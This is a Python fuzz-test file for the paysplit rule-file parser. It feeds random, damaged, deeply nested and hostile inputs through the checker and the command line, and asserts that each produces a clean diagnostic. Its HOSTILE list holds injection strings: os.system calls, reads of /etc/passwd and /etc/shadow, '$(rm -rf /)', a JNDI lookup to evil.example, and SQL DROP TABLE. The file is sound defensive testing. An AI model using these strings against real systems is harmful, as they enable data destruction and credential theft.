"""Fuzzing rule files as paysplit reads them: from a file, to one clear error or a rule set.

Every input is written to a file and goes through both entry points an
operation or ``paysplit check`` uses: :func:`paysplit.compiler.check_files`
(every error and warning) and :func:`paysplit.compiler.load_rules` (a rule
set, or :class:`~paysplit.errors.RuleFileError`), under a hard time bound.
They must agree, and every diagnostic must name the file, a line and a
column inside it, and say in one line what is wrong (terminal- and
``--json``-safe). Anything else (another exception, a hang, a diagnostic
pointing nowhere) fails.

Inputs: random bytes; the stock rule files (``rules/``, the spec's examples,
the vendor plugin's) damaged at the byte and at the line level; soups of the
language's tokens mixed with code-injection attempts (Python, shell, format
strings, paths, URLs, attribute access); and shapes built to be big or deep
(nested parentheses, ``not`` chains, long ``and``/``or`` chains and ``in``
lists, thousands of rules or clauses, huge lines and strings). The nastiest
inputs are kept in ``tests/corpus/rules/`` and replayed, a few through the
real ``paysplit`` command (exit 2 for an operation, 1 for ``check``, never a
traceback). The language engineer's ``test_rules_fuzz.py`` fuzzes
``compile_source`` from the grammar; this file fuzzes the file entry points.
``PAYSPLIT_FUZZ_SCALE=N`` runs N times as many (``make fuzz``).
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from test_fuzz_ledgers import Tally, mutate_bytes, time_bound

from paysplit import source
from paysplit.compiler import check_files, load_rules
from paysplit.errors import Diagnostic, RuleFileError
from paysplit.parser import MAX_ERRORS
from paysplit.plugin_manager import load
from paysplit.rules import RuleSet

ROOT = Path(__file__).resolve().parent.parent
STOCK = sorted(
    [
        *(ROOT / "rules").glob("*.rules"),
        *(ROOT / "examples" / "vendor-plugin" / "rules").glob("*.rules"),
        *Path("/work/shared/spec/examples").glob("*.rules"),
    ]
)
CORPUS = Path(__file__).resolve().parent / "corpus" / "rules"
LEDGER = ROOT / "examples" / "ledgers" / "smith_family.json"
PAYSPLIT = str(Path(sys.executable).with_name("paysplit"))
PLUGINS = load()
SCALE = float(os.environ.get("PAYSPLIT_FUZZ_SCALE", "1"))
TIME_BOUND = 10.0
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")


def fuzz(examples: int) -> settings:
    return settings(
        max_examples=max(1, int(examples * SCALE)),
        deadline=None,
        database=None,
        phases=(Phase.explicit, Phase.reuse, Phase.generate, Phase.shrink),
        suppress_health_check=list(HealthCheck),
    )


def check_rule_file(path: Path, tally: Tally | None = None) -> RuleSet | RuleFileError:
    """Check and load one file; every diagnostic must be a clear one."""
    started = time.perf_counter()
    with time_bound(TIME_BOUND):
        result = check_files([path], PLUGINS)
        try:
            outcome: RuleSet | RuleFileError = load_rules([path], PLUGINS)
        except RuleFileError as error:
            outcome = error
    elapsed = time.perf_counter() - started
    size = path.stat().st_size
    lines = max(1, path.read_bytes().count(b"\n") + 1)
    for diagnostic in [*result.errors, *result.warnings]:
        check_diagnostic(diagnostic, path, lines)
    assert len(result.errors) <= MAX_ERRORS + 2
    if isinstance(outcome, RuleSet):
        assert result.errors == [], "load_rules and check agree"
        kind = "loaded"
    else:
        assert result.errors, "load_rules and check agree"
        assert [d.render() for d in outcome.diagnostics] == [d.render() for d in result.errors]
        rendered = outcome.render()
        assert "Traceback" not in rendered
        json.dumps(outcome.to_json(), ensure_ascii=False).encode("utf-8")
        kind = _kind(result.errors[0].message)
    if tally is not None:
        tally.counts[kind] += 1
        tally.slowest = max(tally.slowest, elapsed)
        tally.bytes += size
    return outcome


def check_diagnostic(diagnostic: Diagnostic, path: Path, lines: int) -> None:
    assert diagnostic.file == str(path)
    assert 1 <= diagnostic.line <= lines + 1, (diagnostic.line, lines)
    assert diagnostic.column >= 1
    assert diagnostic.message and "\n" not in diagnostic.message
    assert "\n" not in diagnostic.hint
    for text in (diagnostic.message, diagnostic.hint):
        assert not CONTROL.search(text), f"a control character in {text!r}"
    rendered = diagnostic.render()
    head = f"{path}:{diagnostic.line}:{diagnostic.column}: {diagnostic.severity}: "
    assert rendered.startswith(head)
    assert "Traceback" not in rendered and "Token(" not in rendered and "Tree(" not in rendered
    # Head, the line as written, the caret, the hint. The line is echoed as written: a
    # carriage return or other control character in it reaches the terminal (reported in
    # docs/reliability.md); the message and the hint never carry one.
    assert len(rendered.split("\n")) <= 4
    assert not CONTROL.search(rendered.split("\n")[0])
    json.dumps(diagnostic.to_json(), ensure_ascii=False)


def _kind(message: str) -> str:
    words = re.sub(r'"[^"]*"|\S*\d\S*', "_", message).split()
    return " ".join(w if len(w) < 20 else "_" for w in words[:4])


def _write(folder: Path, data: bytes | str) -> Path:
    path = folder / "fuzz.rules"
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8", "surrogatepass"))
    return path


def _run(name: str, capsys: pytest.CaptureFixture[str], tally: Tally) -> None:
    with capsys.disabled():
        print("\n" + tally.line(name))
    report = Path(os.environ.get("PAYSPLIT_RELIABILITY_OUT", "build/reliability"))
    with contextlib.suppress(OSError):
        report.mkdir(parents=True, exist_ok=True)
        (report / f"fuzz-rules-{name}.txt").write_text(tally.line(name) + "\n")


# --------------------------------------------------------------------------
# Generators
# --------------------------------------------------------------------------
WORDS = [
    "rule", "settings", "on", "payment", "charge", "added", "demand", "from", "unallocated",
    "unearned", "type", "copay", "appointment", "credit", "to", "charges", "installments",
    "oldest", "newest", "largest", "smallest", "first", "order", "by", "then", "asc", "desc",
    "where", "and", "or", "not", "in", "leftover", "keep", "due", "patient", "insurance",
    "memo", "provider", "office", "same", "mode", "collection", "plans", "include", "debits",
    "dependents", "account", "match", "whole", "only", "when", "covers", "balance", "no",
    "cross-doctor", "block", "unattached", "negative", "adjustments", "warn", "allow",
    "default", "status", "age", "amount", "patient_balance", "payment.payer", "charge.status",
    "due_patient", "pending_payer", ":", ",", "(", ")", "=", "!=", "<", ">=", '"memo"',
    "$12.50", "12", "2025-01-22", "90 days", "\n", "\n    ", "\n\t", "# note",
]  # fmt: skip
HOSTILE = [
    '__import__("os").system("id")',
    "eval(",
    "exec",
    "lambda x: x",
    "os.system",
    "open('/etc/passwd')",
    "payment.__class__.__mro__",
    "charge.__dict__",
    "{0.__class__}",
    "%(amount)s",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "$(rm -rf /)",
    "`id`",
    "; DROP TABLE payments; --",
    "https://evil.example/rules",
    "file:///etc/passwd",
    "../../etc/passwd",
    "/etc/shadow",
    "\\\\server\\share",
    "import os",
    "from os import system",
    "\x1b[2J",
    "\u202e",
    "\u200b",
    "\x00",
    "\r",
    "\ufeff",
    "é",
    "🦷",
    '"\\u0041"',
    '"unterminated',
    "\\",
]
STOCK_TEXTS = [path.read_bytes() for path in STOCK]


def damage_lines(text: str, rng: random.Random) -> str:
    lines = text.split("\n")
    for _ in range(rng.randint(1, 5)):
        where = rng.randrange(len(lines) + 1)
        action = rng.randrange(6)
        if action == 0 and lines:
            del lines[min(where, len(lines) - 1)]
        elif action == 1 and lines:
            lines.insert(where, lines[rng.randrange(len(lines))])
        elif action == 2:
            lines.insert(where, rng.choice(["    ", "\t", "  "]) + rng.choice(HOSTILE + WORDS))
        elif action == 3 and lines:
            index = min(where, len(lines) - 1)
            lines[index] = rng.choice(["", "    ", "\t", "  "]) + lines[index].lstrip()
        elif action == 4 and lines:
            index = min(where, len(lines) - 1)
            cut = rng.randrange(len(lines[index]) + 1)
            lines[index] = lines[index][:cut] + rng.choice(HOSTILE) + lines[index][cut:]
        else:
            rng.shuffle(lines)
    return "\n".join(lines)


def deep(rng: random.Random) -> str:
    """Big or deep shapes, sized around every limit."""
    shape = rng.randrange(8)
    n = rng.choice([1, 10, 31, 32, 33, 100, 1000, 5000])
    if shape == 0:
        return "rule r: where " + "(" * n + "balance > 1" + ")" * n + "\n"
    if shape == 1:
        return "rule r: where " + "not " * n + "status = due_patient\n"
    if shape == 2:
        joiner = rng.choice([" and ", " or "])
        return "rule r: where " + joiner.join(["balance > 1"] * min(n, 2500)) + "\n"
    if shape == 3:
        return "rule r: where status in (" + ", ".join(["due_patient"] * n) + ")\n"
    if shape == 4:
        count = rng.choice([999, 1000, 1001, 1200])
        return "".join(f"rule r{i}: oldest first\n" for i in range(count))
    if shape == 5:
        count = rng.choice([199, 200, 201, 250])
        return "rule r: " + ", ".join(["include debits"] * count) + "\n"
    if shape == 6:
        size = rng.choice([1000, 60_000, 65_536, 70_000])
        return 'rule r: leftover credit due patient memo "' + "x" * size + '"\n'
    return "rule r: " + rng.choice(WORDS) * rng.choice([100, 10_000, 70_000]) + "\n"


# --------------------------------------------------------------------------
# The fuzz tests
# --------------------------------------------------------------------------
def test_random_bytes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tally = Tally()

    @fuzz(300)
    @given(st.binary(max_size=1500))
    def run(data: bytes) -> None:
        check_rule_file(_write(tmp_path, data), tally)

    run()
    _run("random-bytes", capsys, tally)
    assert sum(tally.counts.values()) >= 300 * SCALE * 0.9


def test_damaged_stock_rule_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tally = Tally()

    @fuzz(500)
    @given(st.sampled_from(STOCK_TEXTS), st.integers(0, 2**32), st.booleans())
    def run(data: bytes, number: int, by_lines: bool) -> None:
        rng = random.Random(number)
        if by_lines:
            damaged: bytes | str = damage_lines(data.decode("utf-8"), rng)
        else:
            damaged = mutate_bytes(data, rng)
        check_rule_file(_write(tmp_path, damaged), tally)

    run()
    _run("damaged-stock", capsys, tally)
    assert tally.counts["loaded"] > 0, "some damage leaves a valid file"
    assert tally.counts["loaded"] < sum(tally.counts.values())


def test_the_stock_rule_files_load(tmp_path: Path) -> None:
    assert len(STOCK) >= 12
    for data in STOCK_TEXTS:
        assert isinstance(check_rule_file(_write(tmp_path, data)), RuleSet)


def test_token_soup_with_injection_attempts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tally = Tally()

    @fuzz(500)
    @given(
        st.lists(st.sampled_from(WORDS + HOSTILE), min_size=1, max_size=40),
        st.sampled_from(["rule r: ", "rule r:\n    ", "settings:\n    ", ""]),
    )
    def run(tokens: list[str], start: str) -> None:
        check_rule_file(_write(tmp_path, start + " ".join(tokens) + "\n"), tally)

    run()
    _run("token-soup", capsys, tally)


def test_big_and_deep_shapes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tally = Tally()

    @fuzz(60)
    @given(st.integers(0, 2**32))
    def run(number: int) -> None:
        check_rule_file(_write(tmp_path, deep(random.Random(number))), tally)

    run()
    _run("big-and-deep", capsys, tally)


def test_random_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tally = Tally()

    @fuzz(300)
    @given(st.text(max_size=400))
    def run(text: str) -> None:
        check_rule_file(_write(tmp_path, text), tally)

    run()
    _run("random-text", capsys, tally)


def test_a_file_larger_than_the_limit_is_read_no_further(tmp_path: Path) -> None:
    path = tmp_path / "huge.rules"
    with path.open("wb") as out:
        out.write(b"rule r: oldest first\n" * (source.MAX_BYTES // 10))
    started = time.perf_counter()
    outcome = check_rule_file(path)
    assert isinstance(outcome, RuleFileError)
    assert (
        outcome.diagnostics[0]
        .render()
        .startswith(
            f"{path}:1:1: error: the file is larger than 64 KB; a rule file holds a few rules"
        )
    )
    assert time.perf_counter() - started < 2
    assert len(source.read_bytes("/dev/zero")) == source.MAX_BYTES + 1, "never reads it all"


# --------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------
EXPECTED: dict[str, str] = json.loads((CORPUS / "EXPECTED.json").read_text())
"""Corpus file -> its first error as ``LINE:COL: error: message`` (a prefix)."""


def test_the_corpus_is_complete() -> None:
    files = {p.name for p in CORPUS.iterdir() if p.name != "EXPECTED.json"}
    assert files == set(EXPECTED)
    assert len(files) >= 20


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_corpus_input_gives_one_clear_error(name: str) -> None:
    path = CORPUS / name
    outcome = check_rule_file(path)
    assert isinstance(outcome, RuleFileError)
    first = outcome.diagnostics[0].render().splitlines()[0]
    assert first.startswith(f"{path}:{EXPECTED[name]}"), first


SUBPROCESS = [
    "python-import.rules",
    "binary.rules",
    "nested-parentheses.rules",
    "attribute-access.rules",
    "too-many-rules.rules",
]


@pytest.mark.parametrize("name", SUBPROCESS)
def test_corpus_through_the_real_command(name: str, tmp_path: Path) -> None:
    """An operation given a bad rule file: exit 2, the diagnostics, no traceback, nothing
    written. ``paysplit check``: exit 1 and the same diagnostics."""
    path = str(CORPUS / name)
    ledger = tmp_path / "book.json"
    ledger.write_bytes(LEDGER.read_bytes())
    env = {k: v for k, v in os.environ.items() if k != "PAYSPLIT_DEBUG"}
    operation = subprocess.run(
        [PAYSPLIT, "apply", "--ledger", str(ledger), "--rules", path, "--payment", "PAY1",
         "--in-place"],
        capture_output=True, text=True, env=env, timeout=60, check=False,
    )  # fmt: skip
    assert operation.returncode == 2, operation.stderr
    assert operation.stderr.startswith(f"{path}:{EXPECTED[name]}")
    assert "Traceback" not in operation.stderr and "internal error" not in operation.stderr
    assert ledger.read_bytes() == LEDGER.read_bytes(), "nothing written"
    check = subprocess.run(
        [PAYSPLIT, "check", path, "--json"],
        capture_output=True, text=True, env=env, timeout=60, check=False,
    )  # fmt: skip
    assert check.returncode == 1
    report: dict[str, Any] = json.loads(check.stdout)
    first = report["errors"][0]
    assert f"{first['line']}:{first['column']}: error: {first['message']}".startswith(
        EXPECTED[name]
    )
    assert "Traceback" not in check.stderr
